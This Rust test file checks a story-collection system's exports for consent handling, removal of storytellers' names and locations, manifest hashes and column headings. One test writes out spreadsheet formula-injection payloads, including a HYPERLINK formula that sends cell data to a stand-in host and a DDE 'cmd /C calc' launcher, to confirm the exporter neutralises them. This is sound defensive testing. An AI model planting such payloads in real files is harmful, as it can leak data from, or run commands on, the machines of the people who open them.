//! What leaves headquarters: Awa collects, Modibo supervises, Nana analyses. Each story leaves as its storyteller agreed, in every
//! kind of file, and nobody's name does.

use blon_tests::collecting::open;
use blon_tests::device::holds_no_plaintext;
use blon_tests::exporting::{
    FORMATS, Rooms, awas, bring, correct_past_the_rules, interview, records, rooms, rows, tell,
};
use blon_tests::fixtures::{CAMPAIGN, stories};
use blon_tests::media::sha256;
use blon_tests::supervisor::Supervisor;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};

fn holds(bytes: &[u8], word: &str) -> bool {
    bytes.windows(word.len()).any(|window| window == word.as_bytes())
}

/// Every byte of every export, unpacked, and of the feed, by its name.
fn all_bytes(rooms: &Rooms, more: &str) -> BTreeMap<String, Vec<u8>> {
    let mut all = BTreeMap::new();
    for format in FORMATS {
        for (name, bytes) in rooms.parts(&format!("{format}{more}")) {
            all.insert(format!("{format}/{name}"), bytes);
        }
    }
    for set in ["", "/$metadata", "/Stories", "/Changes", "/Evidence", "/visit"] {
        let answer = rooms.nana.get(&format!("odata{set}"));
        assert_eq!(answer.status(), 200, "{set}");
        all.insert(format!("odata{set}"), answer.bytes().unwrap().to_vec());
    }
    all
}

/// Puts a word before every text of a story that may be the storyteller's own.
fn mark(story: &mut Value, word: &str) {
    let put = |text: &mut Value| *text = format!("{word} {}", text.as_str().unwrap()).into();
    for field in ["title", "before", "what_happened", "now"] {
        put(&mut story[field]);
    }
    for change in story["changes"].as_array_mut().unwrap() {
        for field in ["who", "what", "when", "where", "importance_reason", "contribution_reason"] {
            put(&mut change[field]);
        }
        for field in ["other_causes", "without"] {
            put(&mut change[field]);
        }
        for piece in change["evidence"].as_array_mut().unwrap() {
            put(&mut piece["description"]);
        }
    }
}

#[test]
fn each_thing_leaves_by_its_own_yes_in_every_format() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let mut told = Vec::new();
    for quote in [Some(true), Some(false), None] {
        for (audio, photo) in
            [(Some(true), Some(true)), (Some(true), None), (Some(false), Some(true)), (None, Some(false))]
        {
            let word = format!("MOT{:02}", told.len());
            let seed = u32::try_from(told.len()).unwrap();
            let id = tell(&awa, 0, seed, |story| mark(story, &word));
            told.push((id, word, quote, audio, photo));
        }
    }
    bring(&awa);
    for (id, _, quote, audio, photo) in &told {
        correct_past_the_rules(&rooms, *id, |story| {
            (story.consent.quote, story.consent.audio, story.consent.photo) = (*quote, *audio, *photo);
        });
    }
    let all = all_bytes(&rooms, "");
    for (id, word, quoted, audio, photo) in told {
        let (quoted, audio, photo) = (quoted == Some(true), audio == Some(true), photo == Some(true));
        let story = awa.story(id).unwrap().story;
        let files: BTreeMap<&str, String> =
            story.files().map(|file| (&file.media_type[..5], file.sha256.to_string())).collect();
        let may = |wanted: &str| if wanted == "audio" { audio } else { photo };
        assert_eq!(files.len(), 2, "a photo and a recording");
        for (name, bytes) in &all {
            // Workbooks keep texts as they are, and the flat files hold titles alone.
            if holds(bytes, &word) {
                assert!(quoted, "{word} is not to be quoted, and stands in {name}");
            }
            for (kind, digest) in &files {
                assert!(may(kind) || !holds(bytes, digest), "{kind} without a yes, in {name}");
            }
        }
        let texts = [
            "stories.csv/stories.csv",
            "stories.jsonl/stories.jsonl",
            "evidence.zip/changes.csv",
            "odata/Changes",
        ];
        let (in_sheet, in_evidence) = ("stories.xlsx/xl/worksheets/sheet1.xml", "odata/Evidence");
        for name in texts.into_iter().chain([in_sheet, in_evidence]) {
            assert_eq!(holds(&all[name], &word), quoted, "{word} in {name}");
        }
        for (kind, digest) in &files {
            let inside = all.keys().filter(|name| name.starts_with(&format!("evidence.zip/files/{digest}")));
            let inside: Vec<_> = inside.collect();
            assert_eq!(inside.len(), usize::from(may(kind)), "{kind}");
            for name in inside {
                assert_eq!(sha256(&all[name]), *digest, "the very bytes");
            }
        }
        let line = rooms.lines().into_iter().find(|line| line["story_id"] == id.to_string()).unwrap();
        assert_eq!(line["story"]["changes"][0]["importance"], 5, "what was chosen stays");
        assert_eq!(line["story"]["consent"]["quote"] == true, quoted, "and what was agreed to is told");
    }
}

#[test]
fn practice_and_what_was_rejected_stay_and_the_manifest_counts_them() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let counted = tell(&awa, 1, 1, |_| {}).to_string();
    let rejected = tell(&awa, 2, 2, |_| {}).to_string();
    let practice = interview(&awa, true, &[("story_title", "Pour apprendre")]).to_string();
    bring(&awa);
    let modibo = Supervisor::sign_in(&rooms.server.url(), "Modibo");
    let verdict = json!({ "kind": "rejected", "reason": "Entendu d’un autre" });
    assert_eq!(modibo.decision(&modibo.story(&rejected), &verdict).send().unwrap().status(), 200);

    for (name, bytes) in all_bytes(&rooms, "") {
        assert!(!holds(&bytes, &practice) && !holds(&bytes, "Pour apprendre"), "practice in {name}");
        assert!(!holds(&bytes, &rejected), "a rejected story in {name}");
    }
    for (name, bytes) in all_bytes(&rooms, "?rejected=true") {
        assert!(!holds(&bytes, &practice), "practice in {name}");
        if name.ends_with("/stories.csv") {
            assert!(holds(&bytes, &rejected) && holds(&bytes, &counted), "{name}");
        }
    }
    let manifest = |file: &str| -> Value { serde_json::from_slice(&rooms.export(file)).unwrap() };
    let told = manifest("manifest.json");
    assert_eq!(told["stories"], json!({ "released": 1, "held_back": { "training": 1, "rejected": 1 } }));
    let told = manifest("manifest.json?rejected=true&status=rejected");
    assert_eq!(told["stories"], json!({ "released": 1, "held_back": {} }));
    assert_eq!(told["options"]["status"], "rejected");
    let (day, after) =
        (manifest("manifest.json?from=2022-01-01&to=2022-12-31"), manifest("manifest.json?from=2030-01-01"));
    assert_eq!((&day["stories"]["released"], &after["stories"]["released"]), (&json!(1), &json!(0)));
}

#[test]
fn nobodys_name_or_number_or_house_is_in_any_byte() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let mut known = vec!["Mariam Keïta".to_owned(), "70 00 00 00".to_owned(), "11.9412".to_owned()];
    for number in 0..stories().len() {
        tell(&awa, number, u32::try_from(number).unwrap(), |story| {
            // Who agreed to be named is named by people, not by a file.
            story["consent"]["named"] = true.into();
            story["consent"]["quote"] = true.into();
            known.push(story["storyteller"]["name"].as_str().unwrap().to_owned());
            known.push(story["storyteller"]["phone"].as_str().unwrap_or("70 00 00 00").to_owned());
        });
    }
    let id = interview(&awa, false, &[]);
    bring(&awa);
    let identity = awa.story(id).unwrap().identity;
    assert!(format!("{identity:?}").contains("Mariam"), "the device knows it");
    known.retain(|known| !known.is_empty());
    for (name, bytes) in all_bytes(&rooms, "") {
        for known in &known {
            assert!(!holds(&bytes, known), "{known} in {name}");
        }
    }
    // The house never came to headquarters: only some ten kilometres around it.
    let copy = tempfile::tempdir().unwrap();
    rooms.server.run(&["backup", copy.path().to_str().unwrap()]);
    // In PostgreSQL it is the copy that tells.
    if rooms.server.database().is_none() {
        assert!(holds_no_plaintext(&rooms.server.data(), &["11.9412", "8.3561"]));
    }
    assert!(holds_no_plaintext(copy.path(), &["11.9412", "8.3561"]));
    assert!(!holds_no_plaintext(copy.path(), &["11.9 -8.4"]));
    let code = id.storyteller();
    assert!(rooms.table("stories.csv").iter().any(|row| row["storyteller"] == code), "the code is");
    let withheld = &serde_json::from_slice::<Value>(&rooms.export("manifest.json")).unwrap()["withheld"];
    let place = json!({ "field": "answers.house", "because": "place", "count": 1 });
    assert!(withheld.as_array().unwrap().contains(&place), "{withheld}");
}

#[test]
fn what_the_questionnaire_asks_beyond_the_model_has_columns_and_repeats_have_files() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let quoted = interview(&awa, false, &[]).to_string();
    let unquoted = interview(&awa, false, &[("consent_quote", "no")]).to_string();
    bring(&awa);
    let all = rooms.parts("csv.zip");
    let files: Vec<&str> = all.keys().map(String::as_str).collect();
    assert_eq!(files, ["changes.csv", "evidence.csv", "manifest.json", "stories.csv", "visit.csv"]);
    let of = |table: &str, id: &str| -> Vec<BTreeMap<String, String>> {
        rows(&all[table]).into_iter().filter(|row| row["story_id"] == id).collect()
    };
    let story = &of("stories.csv", &quoted)[0];
    for (column, value) in [
        ("date", "2022-09-14"),
        ("commune", "Kaniogo"),
        // The choice itself, beside what it fills.
        ("asked_commune", "Kaniogo"),
        ("village", "Kéniéro"),
        ("sex", "female"),
        ("consent_given_by", "thumbprint"),
        ("consent_photo", "false"),
        ("status", "received"),
        ("conflict", "false"),
        ("revisions", "1"),
        ("collector", "Awa"),
        ("levels", "collective"),
        ("notes_conditions", "interrupted noise"),
        ("restitution_where", "Sous le fromager du marché"),
        ("field_size", "2.5"),
        ("withheld", "place"),
        ("form_version", "1"),
    ] {
        assert_eq!(story[column], value, "{column}");
    }
    for never in
        ["house", "consent_script", "identity_name", "identity_phone", "commune_name", "story_before"]
    {
        assert!(!story.contains_key(never), "{never}");
    }
    let change = &of("changes.csv", &quoted)[0];
    for (column, value) in [
        ("change_number", "1"),
        ("level", "collective"),
        ("importance", "4"),
        ("importance_collector", "5"),
        ("made_possible", "Les anciens ont laissé les jeunes parler."),
        ("expected", "false"),
        ("verified", ""),
    ] {
        assert_eq!(change[column], value, "{column}");
    }
    let piece = &of("evidence.csv", &quoted)[0];
    assert_eq!(
        (&piece["kind"], &piece["strength"], &piece["change_id"]),
        (&"document".to_owned(), &"4".to_owned(), &change["change_id"])
    );
    let visits = of("visit.csv", &quoted);
    let days: Vec<_> = visits
        .iter()
        .map(|visit| (&visit["number"][..], &visit["visit_day"][..], &visit["visit_people"][..]))
        .collect();
    assert_eq!(days, [("1", "2022-09-01", "12"), ("2", "2022-10-03", "7")]);
    assert_eq!(visits[0]["visit_said"], "Des mots de la visite");
    assert!(!visits[0].contains_key("change_id"));

    let story = &of("stories.csv", &unquoted)[0];
    assert_eq!((&story["withheld"][..], &story["restitution_where"][..]), ("place quote", ""));
    assert_eq!((&story["notes_conditions"][..], &story["field_size"][..]), ("interrupted noise", "2.5"));
    assert_eq!(of("visit.csv", &unquoted)[1]["visit_people"], "7");
    assert_eq!(of("visit.csv", &unquoted)[0]["visit_said"], "");
    assert_eq!(of("changes.csv", &unquoted)[0]["made_possible"], "");
}

#[test]
fn columns_are_called_by_name_or_in_words_of_a_language_and_never_alike() {
    let rooms = rooms();
    let awa = awas(&rooms);
    interview(&awa, false, &[]);
    bring(&awa);
    let mut seen = BTreeSet::new();
    for language in ["name", "fr", "en"] {
        for (name, bytes) in rooms.parts(&format!("csv.zip?headings={language}")) {
            if !name.ends_with(".csv") {
                continue;
            }
            let headings = &records(&bytes)[0];
            let different: BTreeSet<String> = headings.iter().map(|heading| heading.to_lowercase()).collect();
            assert_eq!(different.len(), headings.len(), "{name} in {language}: {headings:?}");
            seen.extend(headings.iter().map(|heading| format!("{language} {name} {heading}")));
        }
    }
    for heading in [
        "name stories.csv before",
        "fr stories.csv La situation avant",
        "en stories.csv The situation before",
        "fr stories.csv Où voudriez-vous que cela se fasse ?",
        "en stories.csv Where would you like that to be?",
        "fr changes.csv Contribution du projet",
        "fr visit.csv Combien de personnes ?",
        // An author's words may look like a formula, too.
        "fr visit.csv \u{a0}= Ce qui s’est dit",
    ] {
        assert!(seen.contains(heading), "{heading}: {seen:?}");
    }
    let refused = rooms.nana.get("exports/stories.csv?headings=bm");
    assert_eq!(refused.status(), 400);
}

#[test]
fn the_manifest_knows_every_byte() {
    let rooms = rooms();
    let awa = awas(&rooms);
    for number in 0..3 {
        tell(&awa, number, u32::try_from(number).unwrap(), |_| {});
    }
    interview(&awa, false, &[]);
    bring(&awa);
    for archive in ["csv.zip", "evidence.zip"] {
        let mut all = rooms.parts(archive);
        let manifest: Value = serde_json::from_slice(&all.remove("manifest.json").unwrap()).unwrap();
        assert_eq!((&manifest["campaign"], &manifest["made_by"]), (&json!(CAMPAIGN), &json!("Nana")));
        assert_eq!(manifest["options"]["headings"], "name");
        for entry in manifest["entries"].as_array().unwrap() {
            let bytes = all.remove(entry["name"].as_str().unwrap()).unwrap();
            assert_eq!(
                (entry["bytes"].as_u64(), entry["sha256"].as_str().unwrap()),
                (Some(bytes.len() as u64), &sha256(&bytes)[..])
            );
            if let Some(count) =
                entry["rows"].as_u64().filter(|_| entry["name"].as_str().unwrap().ends_with("csv"))
            {
                assert_eq!(rows(&bytes).len() as u64, count, "{entry}");
            }
        }
        assert!(all.is_empty(), "{archive} holds what its manifest does not know: {:?}", all.keys());
        if archive == "evidence.zip" {
            let files = rows(&rooms.parts(archive)["evidence.csv"]);
            let named = files.iter().filter(|row| row["file_at_headquarters"] == "true").count();
            assert!(named > 2 && manifest["files"]["included"] == named, "{}", manifest["files"]);
        }
    }
    // Single files have theirs beside.
    let manifest: Value = serde_json::from_slice(&rooms.export("manifest.json")).unwrap();
    for single in ["stories.csv", "stories.jsonl", "stories.xlsx"] {
        let entries = manifest["entries"].as_array().unwrap();
        let entry = entries.iter().find(|entry| entry["name"] == single).unwrap();
        assert_eq!(entry["sha256"], sha256(&rooms.export(single)), "{single} is the same bytes each time");
    }
}

#[test]
fn a_cell_is_never_a_formula() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1;\"ici\")";
    tell(&awa, 0, 1, |story| {
        story["title"] = formula.into();
        story["before"] = "@SUM(A1:A9)".into();
        story["now"] = "D’abord;=cmd|' /C calc'!A0;puis\n-2+3".into();
        story["village"] = "+223".into();
        story["difficulty"] = "\t=1".into();
    });
    bring(&awa);
    let row = &rooms.table("stories.csv")[0];
    assert_eq!(row["title"], format!("\u{a0}{formula}"));
    assert_eq!(row["before"], "\u{a0}@SUM(A1:A9)");
    assert_eq!(row["now"], "D’abord;\u{a0}=cmd|' /C calc'!A0;puis\n\u{a0}-2+3");
    assert_eq!(row["village"], "\u{a0}+223");
    // A workbook and JSON say what is words, so nothing is put before them.
    let sheet = &rooms.parts("stories.xlsx")["xl/worksheets/sheet1.xml"];
    assert!(!holds(sheet, "<f>") && holds(sheet, "=HYPERLINK("));
    assert_eq!(rooms.lines()[0]["story"]["title"], formula);
}

#[test]
fn ratings_and_verification_stand_beside_what_the_collector_said() {
    let rooms = rooms();
    rooms.server.add("Founé", "verifier");
    let awa = awas(&rooms);
    let id = tell(&awa, 0, 1, |_| {}).to_string();
    bring(&awa);
    let modibo = Supervisor::sign_in(&rooms.server.url(), "Modibo");
    let page = modibo.story(&id);
    let (revision, change) =
        (&page["revisions"][0]["id"], &page["revisions"][0]["story"]["changes"][0]["id"]);
    for said in [
        json!({ "kind": "rate", "about": revision, "seen": [], "change": change, "note": "MOT entre nous",
                "ratings": { "importance": 3, "evidence": 2 } }),
        json!({ "kind": "ask_verification", "about": revision, "seen": page["in_sight"], "change": change,
                "verifier": "Founé", "question": "MOT depuis quand ?" }),
    ] {
        assert_eq!(modibo.remark(&id, &said).send().unwrap().status(), 200);
    }
    let all = rooms.parts("evidence.zip");
    let row = rows(&all["changes.csv"]).remove(0);
    for (column, value) in [
        ("importance", "5"),
        ("rated_importance", "3"),
        ("rated_evidence", "2"),
        ("rated_quality", ""),
        ("raters", "1"),
        ("verified", "asked"),
    ] {
        assert_eq!(row[column], value, "{column}");
    }
    assert!(all.iter().all(|(_, bytes)| !holds(bytes, "MOT")), "what is said beside stays");
    assert_eq!(rooms.table("stories.csv")[0]["status"], "in_review");
}

#[test]
fn two_who_corrected_apart_need_two_yeses() {
    let rooms = rooms();
    let awa = awas(&rooms);
    let id = tell(&awa, 0, 1, |_| {});
    bring(&awa);
    // Her other phone has the story, too; there the storyteller has thought it over.
    let other = blon_tests::collecting::another_device(&rooms.server, "Awa", &rooms.server.url());
    let other = open(&other);
    bring(&other);
    let story = awa.story(id).unwrap().story;
    let sound = story.files().find(|file| file.is_audio()).unwrap().sha256.to_string();
    let change = &story.changes[1];
    other.correct(id).unwrap();
    let piece = format!("change/{}/evidence/{}", change.id, change.evidence[0].id);
    other.remove_repetition(id, &piece, "fr").unwrap();
    for (question, answer) in [("consent_audio", "no"), ("consent_quote", "no"), ("story_now", "Corrigé là.")]
    {
        other.answer(id, question, answer, "fr").unwrap();
    }
    other.finalise(id).unwrap();
    blon_tests::collecting::correct(&awa, id, "Corrigé ici.");
    bring(&awa);
    bring(&other);
    let row = &rooms.table("stories.csv")[0];
    assert_eq!((&row["conflict"][..], &row["consent_quote"][..], &row["now"][..]), ("true", "false", ""));
    for (name, bytes) in all_bytes(&rooms, "") {
        assert!(!holds(&bytes, "Corrigé") && !holds(&bytes, &sound) && !name.contains(&sound), "{name}");
    }
}
